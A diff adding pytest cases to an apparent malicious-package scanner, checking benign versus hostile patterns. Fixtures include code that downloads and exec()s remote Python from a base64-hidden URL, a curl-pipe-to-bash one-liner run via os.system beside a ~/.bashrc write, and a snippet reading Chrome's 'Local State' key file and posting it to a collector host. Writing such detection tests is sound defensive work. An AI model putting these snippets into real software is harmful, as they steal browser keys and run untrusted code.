@@ -597,6 +597,50 @@ def test_a_preload_helper_the_package_runs_on_import_stays_serious():
     assert result.verdict == "malicious"
 
 
+_SPEC_LOADER = """
+    import requests
+
+    class Spec:
+        def __init__(self, source):
+            self.module = {}
+            exec(compile(self._read(source), "spec", "exec"), self.module)
+
+        @staticmethod
+        def _read(source):
+            if "://" in source:
+                return requests.get(source).text
+            with open(source) as f:
+                return f.read()
+"""
+
+
+def test_code_fetched_from_an_address_the_caller_gives_is_a_capability():
+    """A schema compiler runs the spec its user points it at: the address is a parameter, read
+    in another method than the one that runs it. Worth a warning, not a sign of intent."""
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/spec.py": _SPEC_LOADER})
+    assert {f.severity for f in found(result, "intent.download-execute")} == {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        '"https://cdn.example.net/spec.py"',  # written in
+        'SPEC_URL + "/spec.py"',  # a constant start (a module constant)
+        'base64.b64decode("aHR0cHM6Ly9jZG4uZXhhbXBsZS5uZXQvcy5weQ==").decode()',  # hidden
+    ],
+)
+def test_code_fetched_from_a_fixed_or_hidden_address_stays_serious(address):
+    src = _SPEC_LOADER.replace("requests.get(source)", f"requests.get({address})")
+    src = src.replace(
+        "import requests", 'import base64, requests\n    SPEC_URL = "https://c.x.net"'
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/spec.py": src})
+    runs = found(result, "intent.download-execute") + found(result, "intent.decode-execute")
+    assert runs and {f.severity for f in runs} == {"high"}  # a hidden address: decoded, run
+    assert result.verdict in FLAGGED
+
+
 def test_a_program_downloaded_from_a_url_parameter_and_started_stays_serious():
     src = """
         import subprocess
@@ -963,6 +1007,74 @@ def test_a_command_disguised_under_a_message_name_still_runs():
     """
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/run.py": src})
     assert found(result, "intent.shell-download-execute")
+
+
+# -- a CLI's set-up command: shell completion in ~/.bashrc, an install one-liner in its help ------
+
+_CLI_SETUP = """
+import os
+import subprocess
+
+USER_BASH_RC = os.path.expanduser(os.path.join("~", ".bashrc"))
+install_end_message = \"\"\"
+    To install the CLI on another host, run:
+
+    bash -c "$(curl -L https://raw.example/cli/install.sh)"
+\"\"\"
+
+
+def setup_autocomplete():
+    with open(USER_BASH_RC, "a") as rc:
+        rc.write('eval "$(_DEMO_COMPLETE=bash_source demo)"\\n')
+    print(install_end_message)
+
+
+def shell_version():
+    return subprocess.run(["bash", "--version"], capture_output=True).stdout
+"""
+
+
+def test_a_clis_completion_setup_and_its_install_help_are_not_a_dropper():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cli_setup.py": _CLI_SETUP})
+    assert found(result, "intent.persistence")  # said: it does edit ~/.bashrc when called
+    assert {f.severity for f in found(result, "indicator.shell-command")} == {"low"}
+    assert result.verdict not in FLAGGED
+
+
+def test_the_same_one_liner_run_beside_a_bashrc_write_is_flagged():
+    src = _CLI_SETUP.replace("print(install_end_message)", "os.system(install_end_message)")
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cli_setup.py": src})
+    assert found(result, "intent.shell-download-execute")
+    assert result.verdict in FLAGGED
+
+
+# -- Chrome's key file is "Local State", a file name; "VM-local state" in a message is prose -----
+
+
+def test_local_state_in_a_message_is_not_a_browsers_key_file():
+    src = """
+    import requests
+
+    def upload(repo_dir):
+        requests.post("https://api.example.com/upload", data=b"x")
+        raise RuntimeError(f"{repo_dir}/.git points at VM-local state that is not present here")
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/upload.py": src})
+    assert not found(result, "intent.credential-theft")
+    assert not found(result, "capability.credential-path")
+
+
+def test_reading_chromes_local_state_beside_a_network_call_is_credential_theft():
+    src = """
+    import os, requests
+
+    def grab():
+        base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
+        key = open(os.path.join(base, "Local State"), "rb").read()
+        requests.post("https://collector.example/x", data=key)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/grab.py": src})
+    assert found(result, "intent.credential-theft")
 
 
 # -- a project template's files ({{cookiecutter.name}}/...) are not the package's code -------
